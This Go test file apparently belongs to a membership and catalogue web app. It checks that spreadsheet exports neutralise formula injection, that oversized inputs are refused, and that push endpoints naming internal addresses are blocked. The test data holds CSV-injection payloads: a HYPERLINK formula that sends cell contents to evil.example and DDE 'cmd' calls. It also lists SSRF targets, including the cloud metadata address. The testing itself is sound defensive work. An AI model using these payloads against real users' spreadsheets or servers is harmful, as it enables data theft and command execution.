package httpapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"socius/internal/app"
	"socius/internal/testkit"
)

// hostileText are cell values a spreadsheet would run as formulas.
var hostileText = []string{
	`=HYPERLINK("http://evil.example/?"&B2,"x")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// expectNeutralised checks that a cell holding want starts with a single
// quote and otherwise keeps the text.
func expectNeutralised(t *testing.T, what, cell, want string) {
	t.Helper()
	if !strings.HasPrefix(cell, "'") || cell[1:] != want {
		t.Fatalf("%s: cell %q, want %q", what, cell, "'"+want)
	}
}

func readCSV(t *testing.T, res *testkit.Response) [][]string {
	t.Helper()
	expectOK(t, "csv export", res)
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\ufeff"))))
	r.Comma, r.FieldsPerRecord = ';', -1 // a titled export has shorter rows above its header
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func openXLSX(t *testing.T, res *testkit.Response) *excelize.File {
	t.Helper()
	expectOK(t, "xlsx export", res)
	f, err := excelize.OpenReader(bytes.NewReader(res.Body))
	if err != nil {
		t.Fatalf("not an xlsx file: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// TestMemberExportNeutralisesFormulas: names that start with a formula
// character leave the exports as text with a leading quote; the member
// number stays a number.
func TestMemberExportNeutralisesFormulas(t *testing.T) {
	testkit.Each(t, func(t *testing.T, k *testkit.Kit) {
		w := newMemberWorld(t, k)
		stored := map[string]string{} // surname -> the name as saved
		for i, name := range hostileText {
			surname := fmt.Sprintf("Hostil%d", i)
			m := saveMember(t, w.admin, socio(w.alfa, name, surname, fmt.Sprintf("7000%04dH", i)))
			// The form trims names; a leading tab or carriage return can still come from older data.
			if _, err := k.App.DB.Exec(context.Background(), `UPDATE members SET nombre = ? WHERE id = ?`, name, num(m["nid"])); err != nil {
				t.Fatal(err)
			}
			stored[surname] = name
		}
		url := "/api/ficha_socio/export?association=" + itoa(w.alfa)

		rows := readCSV(t, w.admin.Do("GET", url+"&format=csv", nil))
		seen := 0
		for _, row := range rows[1:] {
			if want, ok := stored[row[2]]; ok {
				expectNeutralised(t, "csv name of "+row[2], row[1], want)
				if strings.HasPrefix(row[0], "'") {
					t.Fatalf("member number quoted: %q", row[0])
				}
				seen++
			}
		}
		if seen != len(hostileText) {
			t.Fatalf("csv: %d hostile members found, want %d: %q", seen, len(hostileText), rows)
		}

		f := openXLSX(t, w.admin.Do("GET", url+"&format=xlsx", nil))
		sheet := f.GetSheetList()[0]
		xrows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		seen = 0
		for i, row := range xrows[1:] {
			if len(row) < 3 {
				continue
			}
			if want, ok := stored[row[2]]; ok {
				expectNeutralised(t, "xlsx name of "+row[2], row[1], want)
				cell := fmt.Sprintf("A%d", i+2)
				if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
					t.Fatalf("member number %s written as text", cell)
				}
				if formula, _ := f.GetCellFormula(sheet, fmt.Sprintf("B%d", i+2)); formula != "" {
					t.Fatalf("a name became the formula %q", formula)
				}
				seen++
			}
		}
		if seen != len(hostileText) {
			t.Fatalf("xlsx: %d hostile members found, want %d", seen, len(hostileText))
		}
	})
}

// TestProductExportNeutralisesFormulas: the same for a product's code, title
// and category, while prices and a negative stock stay numbers.
func TestProductExportNeutralisesFormulas(t *testing.T) {
	testkit.Each(t, func(t *testing.T, k *testkit.Kit) {
		w := newCatalogWorld(t, k)
		code, title, category := `=HYPERLINK("http://evil.example/?"&A2,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`
		cat := w.category(t, w.admin, w.alfa, category)
		pid := num(w.save(t, w.product(title, "code", code, "category", cat))["pid"])
		// a negative level (the point of sale may leave one) must stay a number
		if _, err := k.App.DB.Exec(context.Background(), `UPDATE products SET stock = -2500 WHERE id = ?`, pid); err != nil {
			t.Fatal(err)
		}
		url := "/api/dispensario/export?asocid=" + itoa(w.alfa)

		rows := readCSV(t, w.admin.Do("GET", url+"&format=csv", nil))
		if len(rows) != 2 {
			t.Fatalf("csv rows: %q", rows)
		}
		expectNeutralised(t, "csv code", rows[1][0], code)
		expectNeutralised(t, "csv title", rows[1][1], title)
		expectNeutralised(t, "csv category", rows[1][2], category)
		if rows[1][3] != "9,5" || rows[1][5] != "-2,5" {
			t.Fatalf("csv numbers: price %q, stock %q", rows[1][3], rows[1][5])
		}

		f := openXLSX(t, w.admin.Do("GET", url+"&format=xlsx", nil))
		xrows, _ := f.GetRows("Productos")
		if len(xrows) != 2 {
			t.Fatalf("xlsx rows: %q", xrows)
		}
		expectNeutralised(t, "xlsx code", xrows[1][0], code)
		expectNeutralised(t, "xlsx title", xrows[1][1], title)
		expectNeutralised(t, "xlsx category", xrows[1][2], category)
		if xrows[1][5] != "-2.5" {
			t.Fatalf("xlsx stock %q", xrows[1][5])
		}
		for _, cell := range []string{"D2", "F2"} {
			if typ, _ := f.GetCellType("Productos", cell); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
				t.Fatalf("number %s written as text", cell)
			}
		}
	})
}

// TestHugeAmountsRefused: quantities and money beyond the bounds are refused
// as bad input, before anything is written, and the stock level cannot be
// pushed past its bound by adding allowed changes.
func TestHugeAmountsRefused(t *testing.T) {
	testkit.Each(t, func(t *testing.T, k *testkit.Kit) {
		w := newCatalogWorld(t, k)
		// free (no price, no cost): a thousand million grams of it stay within a product's stock value
		pid := num(w.save(t, w.product("Critical", "price", 0, "cost", 0))["pid"])
		post := func(body string) *testkit.Response {
			return w.admin.Raw("POST", "/api/product_stock", body, map[string]string{"X-CSRF-Token": w.admin.CSRF, "Content-Type": "application/json"})
		}
		row := fmt.Sprintf(`{"pid":%d,"stock":9223372036854775.807,"stock_type":"manual"}`, pid)

		res := post(fmt.Sprintf(`{"asocid":%d,"products":[%s,%s]}`, w.alfa, row, row))
		expectErr(t, "two adjustments of the largest int64", res, 400, "amount.quantity_too_large", "La cantidad no puede superar 1.000.000.000")
		for range 2 {
			expectErr(t, "one adjustment of the largest int64", post(fmt.Sprintf(`{"asocid":%d,"products":[%s]}`, w.alfa, row)), 400, "amount.quantity_too_large", "")
		}
		expectErr(t, "beyond int64", adjust(w.admin, w.alfa, pid, 1e300, "manual", ""), 400, "amount.quantity_too_large", "")
		if s := w.stock(t, pid); s != "0" || k.Count("stock_movements", "product_id = ?", pid) != 0 {
			t.Fatalf("refused adjustments changed stock to %s", s)
		}

		// Allowed changes that would add up past the bound: the second is refused.
		expectOK(t, "adjustment at the bound", adjust(w.admin, w.alfa, pid, 1e9, "manual", ""))
		res = adjust(w.admin, w.alfa, pid, 1e9, "manual", "")
		expectErr(t, "stock past the bound", res, 400, "stock.too_large", "El stock de Critical no puede superar 1.000.000.000")
		if s := w.stock(t, pid); s != fmt.Sprint(1e9) || k.Count("stock_movements", "product_id = ?", pid) != 1 {
			t.Fatalf("stock %s after a refused adjustment", s)
		}
		expectOK(t, "back down", adjust(w.admin, w.alfa, pid, -1e9, "manual", ""))

		// Money: a price beyond a thousand million euros is refused, nothing saved.
		before := k.Count("products", "")
		res = w.admin.Do("POST", "/api/dispensario", w.product("Caro", "price", 1e10))
		expectErr(t, "huge price", res, 400, "amount.money_too_large", "El importe no puede superar 1.000.000.000 €")
		if k.Count("products", "") != before {
			t.Fatal("a product with a huge price was saved")
		}
	})
}

// TestHugePageRefused: a page number whose offset would overflow is bad
// input, never page 0.
func TestHugePageRefused(t *testing.T) {
	testkit.Each(t, func(t *testing.T, k *testkit.Kit) {
		w := newMemberWorld(t, k)
		for _, path := range []string{
			"/api/ficha_socio?association=" + itoa(w.alfa),
			"/api/association_user/retrieve?association=" + itoa(w.alfa),
			"/api/dispensario?asocid=" + itoa(w.alfa),
		} {
			expectErr(t, path, w.admin.Do("GET", path+"&page=922337203685477580", nil), 400, "request.invalid", "")
			expectErr(t, path, w.admin.Do("GET", path+"&page=99999999999999999999", nil), 400, "request.invalid", "")
			res := w.admin.Do("GET", path+"&page=1000000", nil)
			expectOK(t, path+" last allowed page", res)
			if data, ok := res.JSON["data"].([]any); ok && len(data) != 0 {
				t.Fatalf("%s: page 1000000 is not empty: %s", path, res)
			}
		}
	})
}

// TestUnreadableBodyOnClubRoute: a body the club gate cannot read is refused
// for what it is, not as a missing club, and the same way as on routes that
// take no club from the body.
func TestUnreadableBodyOnClubRoute(t *testing.T) {
	testkit.Each(t, func(t *testing.T, k *testkit.Kit) {
		w := newMemberWorld(t, k)
		club := itoa(w.alfa)
		bodies := []struct {
			what, body, contentType, code, message string
		}{
			{"malformed", `{"association":` + club + `,"nombre":"Eva",`, "application/json", "request.invalid", "La petición no es un JSON válido"},
			{"NaN", `{"association":NaN,"nombre":"Eva"}`, "application/json", "request.invalid", "La petición no es un JSON válido"},
			{"NaN club kept", `{"association":` + club + `,"nombre":"Eva","consum_forecast":NaN}`, "application/json", "request.invalid", "La petición no es un JSON válido"},
			{"XML", `<socio><association>` + club + `</association><nombre>Eva</nombre></socio>`, "application/xml", "request.invalid", "La petición no es un JSON válido"},
			{"JSON sent as XML", `{"association":` + club + `,"nombre":"Eva"}`, "application/xml", "request.invalid", "La petición no es un JSON válido"},
			{"oversized", `{"association":` + club + `,"nombre":"Eva","notes":"` + strings.Repeat("a", 12<<20) + `"}`, "application/json", "request.too_large", "La petición es demasiado grande"},
		}
		before := k.Count("members", "")
		for _, b := range bodies {
			res := w.admin.Raw("POST", "/api/ficha_socio", b.body, map[string]string{"X-CSRF-Token": w.admin.CSRF, "Content-Type": b.contentType})
			expectErr(t, "club route, "+b.what, res, 400, b.code, b.message)
		}
		if k.Count("members", "") != before {
			t.Fatal("an unreadable body saved a member")
		}
		// The same bodies where no club is read from the body: the same answer from huma.
		for _, b := range bodies {
			body := strings.Replace(b.body, `"association":`+club+`,`, `"old_password":"x","password":"y",`, 1)
			res := w.admin.Raw("POST", "/api/change_password", body, map[string]string{"X-CSRF-Token": w.admin.CSRF, "Content-Type": b.contentType})
			expectErr(t, "route without a body club, "+b.what, res, 400, b.code, b.message)
		}
		// A readable body without the club is still a missing club.
		expectErr(t, "no club", w.admin.Do("POST", "/api/ficha_socio", map[string]any{"nombre": "Eva"}), 400, "club.required", "")
	})
}

// TestPushEndpointMustBePublic: the server calls push endpoints, so one that
// names an address of its own network is refused.
func TestPushEndpointMustBePublic(t *testing.T) {
	testkit.Each(t, func(t *testing.T, k *testkit.Kit) {
		k.User("ana", k.Club("Alfa", "socios"), "Administrador")
		c := mustLogin(t, k, "ana", testkit.Password)
		sub := func(endpoint string) *testkit.Response {
			return c.Do("POST", "/api/push_subscription", map[string]any{"endpoint": endpoint, "keys": map[string]string{"p256dh": "BPk", "auth": "xyz"}})
		}
		for _, e := range []string{
			"https://127.0.0.1:8443/internal", "https://[::1]/x", "https://localhost/x", "https://10.0.0.1/x",
			"https://169.254.169.254/latest/meta-data", "https://[::ffff:127.0.0.1]/x", "https://LOCALHOST./x",
			"https://api.localhost/x", "https://intranet/x", "https://2130706433/x", "https://127.1/x", "https://0x7f000001/x",
		} {
			expectErr(t, e, sub(e), 400, "push.endpoint_invalid", "")
		}
		if n := k.Count("push_subscriptions", ""); n != 0 {
			t.Fatalf("%d internal endpoints stored", n)
		}
		expectOK(t, "public push service", sub("https://fcm.googleapis.com/fcm/send/abc"))
		if n := k.Count("push_subscriptions", "endpoint = ?", "https://fcm.googleapis.com/fcm/send/abc"); n != 1 {
			t.Fatalf("public endpoint stored %d times", n)
		}
	})
}

// TestHSTS: HTTPS replies (behind a trusted proxy here) tell the browser to
// keep to HTTPS; plain HTTP replies do not, and the header of an untrusted
// client does not count.
func TestHSTS(t *testing.T) {
	for _, engine := range testkit.Engines() {
		t.Run(engine, func(t *testing.T) {
			get := func(k *testkit.Kit, proto string) http.Header {
				return k.Client().Raw("GET", "/services/session/token", "", map[string]string{"X-Forwarded-Proto": proto}).Header
			}
			k := testkit.NewWith(t, engine, func(c *app.Config) { c.TrustProxy = true })
			if v := get(k, "https").Get("Strict-Transport-Security"); v != "max-age=31536000" {
				t.Fatalf("https through a trusted proxy: Strict-Transport-Security %q", v)
			}
			if v := get(k, "").Get("Strict-Transport-Security"); v != "" {
				t.Fatalf("plain http: Strict-Transport-Security %q", v)
			}
			if v := get(k, "http").Get("Strict-Transport-Security"); v != "" {
				t.Fatalf("http through a trusted proxy: Strict-Transport-Security %q", v)
			}
			k = testkit.NewWith(t, engine, func(c *app.Config) { c.TrustProxy = false })
			if v := get(k, "https").Get("Strict-Transport-Security"); v != "" {
				t.Fatalf("X-Forwarded-Proto from an untrusted client: Strict-Transport-Security %q", v)
			}
		})
	}
}
